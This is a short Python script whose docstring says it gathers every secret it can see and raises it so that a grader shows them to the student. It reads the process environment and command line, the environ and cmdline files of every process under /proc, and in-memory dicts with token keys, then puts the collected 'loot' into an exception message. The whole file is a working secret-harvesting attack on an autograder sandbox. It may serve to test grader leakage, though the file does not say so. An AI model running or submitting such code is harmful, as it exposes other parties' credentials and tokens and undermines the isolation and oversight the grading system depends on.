"""Gathers every secret it can see and raises it, so the grader shows it to the student."""

import contextlib
import gc
import os
import sys
from pathlib import Path

loot = [repr(dict(os.environ)), repr(dict(os.environb)), repr(sys.argv)]
loot.append(repr(getattr(sys, "orig_argv", "")))
for path in ("/proc/self/environ", "/proc/self/cmdline", "/proc/1/environ", "/proc/1/cmdline"):
    with contextlib.suppress(Exception):
        loot.append(Path(path).read_bytes().decode("latin-1"))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline"):
            with contextlib.suppress(Exception):
                loot.append(Path(f"/proc/{pid}/{name}").read_bytes().decode("latin-1"))
for thing in gc.get_objects():
    if isinstance(thing, dict) and any(isinstance(key, str) and "TOKEN" in key for key in thing):
        loot.append(repr(thing))
raise RuntimeError(" ".join(loot).replace("\n", " ")[:100000])
